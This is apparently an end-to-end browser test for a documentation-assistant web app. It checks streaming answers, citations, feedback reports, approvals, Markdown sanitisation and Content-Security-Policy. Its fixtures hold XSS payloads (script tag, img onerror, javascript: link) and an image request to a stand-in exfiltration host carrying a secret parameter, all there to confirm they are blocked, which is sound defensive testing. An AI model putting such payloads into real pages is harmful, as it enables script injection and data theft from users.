// End-to-end test of docs-agent's web page: the real `docs-agent serve` (scripted model) on
// 127.0.0.1 and Debian's headless Chromium driven by playwright-core. It asks, watches the
// answer stream in, opens a cited section, rates an answer and finds it in the admin's gaps
// report, sees a doc's Markdown rendered with its HTML, image and script link inert, checks that
// the Content-Security-Policy blocks an outside image, and has an approver approve a pending
// write from a second browser context.
// Prints "N passed, M failed" and exits non-zero on any failure.
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { chromium } from "playwright-core";

const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), "../..");
const binary = process.env.DOCS_AGENT_BIN || path.join(root, "target/debug/docs-agent");
const browserPath = process.env.CHROMIUM || "/usr/bin/chromium";
const shots = path.join(root, "target/browser");
const ASKER = "browser-asker-token-0123456789";
const APPROVER = "browser-approver-token-0123456789";
const ADMIN = "browser-admin-token-0123456789";
const sha = (t) => createHash("sha256").update(t).digest("hex");

let passed = 0, failed = 0;
async function check(name, body) {
  try {
    await body();
    passed++;
    console.log("ok   " + name);
  } catch (error) {
    failed++;
    console.log("FAIL " + name + "\n     " + (error && error.stack ? error.stack.split("\n").slice(0, 3).join("\n     ") : error));
  }
}
function assert(condition, message) {
  if (!condition) throw new Error(message);
}
// GETs `route` from the server as `token`'s holder, as JSON.
async function api(token, route) {
  const response = await fetch(base + route, { headers: { Authorization: "Bearer " + token } });
  assert(response.ok, "GET " + route + ": " + response.status);
  return response.json();
}
// Waits (up to 15 s) until session `id`'s turn has ended on the server.
async function turnEnded(id) {
  const deadline = Date.now() + 15000;
  for (;;) {
    const { status } = await api(ASKER, "/v1/sessions/" + id);
    if (status === "idle") return;
    assert(Date.now() < deadline, "session " + id + " is still " + status);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
// Waits until `page` says its turn was answered; on a timeout, says what the page shows instead.
async function answered(page) {
  await page.waitForFunction(() => document.querySelector("#status").textContent === "answered", null, { timeout: 15000 })
    .catch(async (error) => {
      const seen = await page.evaluate(() => ["status", "error", "answer"]
        .map((id) => id + "=" + JSON.stringify(document.getElementById(id).textContent)).join(" "));
      throw new Error("the page never said `answered` (" + seen + "): " + error.message);
    });
}

// A private workspace and config.
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "docs-agent-browser-"));
const ws = path.join(dir, "ws");
fs.cpSync(path.join(root, "workspace"), ws, { recursive: true });
// A doc whose Markdown the scripted model quotes: formatting to render, and HTML, an outside
// image and a script link that must stay inert.
fs.writeFileSync(path.join(ws, "docs/zebra.md"), `# Zebra codes

Zebra codes are **bold**:

- first zebra
- second zebra

| zebra | code |
|---|---|
| a | 1 |

<script>window.pwned = 1</script>
<img src="x" onerror="window.pwned = 2">

![leak](http://127.0.0.1:9/leak.png) [evil](javascript:window.pwned=3)
`);
fs.writeFileSync(path.join(dir, "docs-agent.toml"), `
[serve]
listen = "127.0.0.1:0"
[[serve.tokens]]
principal = "ana"
sha256 = "${sha(ASKER)}"
roles = ["ask"]
[[serve.tokens]]
principal = "cy"
sha256 = "${sha(APPROVER)}"
roles = ["ask", "approve"]
[[serve.tokens]]
principal = "dee"
sha256 = "${sha(ADMIN)}"
roles = ["admin"]
`);
fs.mkdirSync(shots, { recursive: true });

const server = spawn(binary, ["serve"], {
  cwd: dir,
  env: { PATH: process.env.PATH, WORKSPACE: ws, LLM_MODEL: "scripted", DOCS_AGENT_SESSION_LOG: path.join(dir, "data/sessions.db") },
  stdio: ["ignore", "ignore", "pipe"],
});
const base = await new Promise((resolve, reject) => {
  let seen = "";
  const timer = setTimeout(() => reject(new Error("the server did not start: " + seen)), 20000);
  server.stderr.on("data", (chunk) => {
    seen += chunk;
    const match = seen.match(/serving on (http:\/\/\S+)/);
    if (match) { clearTimeout(timer); resolve(match[1]); }
  });
  server.on("exit", (code) => reject(new Error("the server exited with " + code + ": " + seen)));
});

const browser = await chromium.launch({
  executablePath: browserPath,
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"],
});
const outside = [];
async function open(token) {
  const context = await browser.newContext();
  const page = await context.newPage();
  // A request the CSP blocks is still announced, then fails; only a response means it left.
  page.on("response", (response) => { if (!response.url().startsWith(base)) outside.push(response.url()); });
  await page.goto(base + "/");
  await page.fill("#token", token);
  await page.dispatchEvent("#token", "change");
  return page;
}

try {
  const asker = await open(ASKER);

  await check("an answer streams in and cites its source", async () => {
    await asker.fill("#question", "how long is the refund window");
    await asker.click("#ask");
    await answered(asker);
    const answer = await asker.textContent("#answer");
    assert(answer.includes("docs/refunds.md"), "the answer cites docs/refunds.md: " + answer);
    assert(await asker.locator("#steps li").count() >= 1, "tool steps are shown");
    await asker.screenshot({ path: path.join(shots, "answer.png"), fullPage: true });
  });

  await check("a citation opens the cited section", async () => {
    await asker.locator("button.cite").first().click();
    await asker.waitForSelector("#section-panel:not([hidden])", { timeout: 10000 });
    const text = await asker.textContent("#section-text");
    assert(text.length > 20, "the section has text: " + text);
    const source = await asker.textContent("#section-source");
    assert(source.startsWith("docs/"), "the source is shown: " + source);
  });

  await check("an answer is rated not helpful with a comment, and the gaps report lists its question", async () => {
    await asker.waitForSelector("#feedback:not([hidden])", { timeout: 10000 });
    await asker.fill("#feedback-comment", "nothing about annual plans");
    await asker.click("#not-helpful");
    await asker.waitForFunction(() => document.querySelector("#feedback-status").textContent.includes("not helpful"), null, { timeout: 10000 });
    await asker.screenshot({ path: path.join(shots, "feedback.png"), fullPage: true });
    const report = await api(ADMIN, "/v1/reports/gaps");
    const gap = report.gaps.find((g) => g.question === "how long is the refund window");
    assert(gap && gap.reasons.not_helpful === 1, "the gap is listed: " + JSON.stringify(report));
    assert(gap.asked[0].comment === "nothing about annual plans", "with its comment: " + JSON.stringify(gap));
  });

  await check("an answer's Markdown is rendered, and its HTML, image and script link stay inert", async () => {
    await asker.click("#new-session");
    await asker.fill("#question", "what are zebra codes");
    await asker.click("#ask");
    await answered(asker);
    const shown = await asker.evaluate(() => {
      const box = document.getElementById("answer");
      const count = (selector) => box.querySelectorAll(selector).length;
      return { items: count("li"), tables: count("table td"), strong: count("strong"), active: count("script, img, iframe, [onerror]"),
               links: [...box.querySelectorAll("a")].map((a) => a.href), pwned: window.pwned === undefined ? null : window.pwned,
               text: box.textContent };
    });
    assert(shown.items >= 2 && shown.tables >= 1 && shown.strong >= 1, "lists, tables and emphasis are elements: " + JSON.stringify(shown));
    assert(shown.active === 0, "no script, image or handler in the answer: " + JSON.stringify(shown));
    assert(shown.pwned === null, "nothing ran: window.pwned = " + shown.pwned);
    assert(shown.links.every((href) => /^https?:|^mailto:/.test(href)), "no script link: " + shown.links);
    assert(shown.text.includes("first zebra"), "the text is shown: " + shown.text);
    await asker.screenshot({ path: path.join(shots, "markdown.png"), fullPage: true });
  });

  await check("the page blocks an outside image (Content-Security-Policy)", async () => {
    const blocked = await asker.evaluate(() => new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI + " " + e.violatedDirective), { once: true });
      const img = document.createElement("img");
      img.src = "https://exfil.example/leak.png?secret=x";
      document.body.appendChild(img);
      setTimeout(() => resolve("no violation"), 3000);
    }));
    assert(blocked.includes("exfil.example") && blocked.includes("img-src"), "blocked: " + blocked);
  });

  await check("an asker sees no approvals panel", async () => {
    assert(await asker.locator("#approvals-panel").isHidden(), "the approvals panel is hidden for a non-approver");
  });

  await check("a write waits, an approver approves it in another browser, the asker sees the answer", async () => {
    // The asker's page may start following the session only after the approver has decided and
    // the turn has ended (a slow machine): hold its reads of the session until then.
    let release;
    const decided = new Promise((resolve) => { release = resolve; });
    await asker.route(/\/v1\/sessions\/[^/]+(\/events.*)?$/, async (route) => {
      if (route.request().method() === "GET") await decided;
      await route.continue();
    });
    await asker.click("#new-session");
    await asker.fill("#question", "what is in the onboarding integrations");
    await asker.click("#ask");
    await asker.waitForSelector("#waiting:not([hidden])", { timeout: 15000 });
    const approver = await open(APPROVER);
    const [pending] = (await api(APPROVER, "/v1/approvals?state=pending")).approvals;
    await approver.waitForSelector("#approvals li button[data-decision=once]", { timeout: 10000 });
    const listed = await approver.textContent("#approvals");
    assert(listed.includes("notes/leak.txt"), "the pending write is listed: " + listed);
    assert(!listed.includes("4eC39HqLyjWDarjtT1zdp7dc"), "its content is redacted");
    await approver.screenshot({ path: path.join(shots, "approvals.png"), fullPage: true });
    await approver.click("#approvals li button[data-decision=once]");
    await turnEnded(pending.session_id);
    release();
    await answered(asker);
    assert(fs.existsSync(path.join(ws, "notes/leak.txt")), "the approved note was written");
    assert(await asker.locator("#waiting").isHidden(), "the waiting notice is gone");
  });

  await check("nothing was fetched from anywhere but the server", async () => {
    assert(outside.length === 0, "outside responses: " + outside.join(", "));
  });
} finally {
  await browser.close();
  server.kill("SIGTERM");
}
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
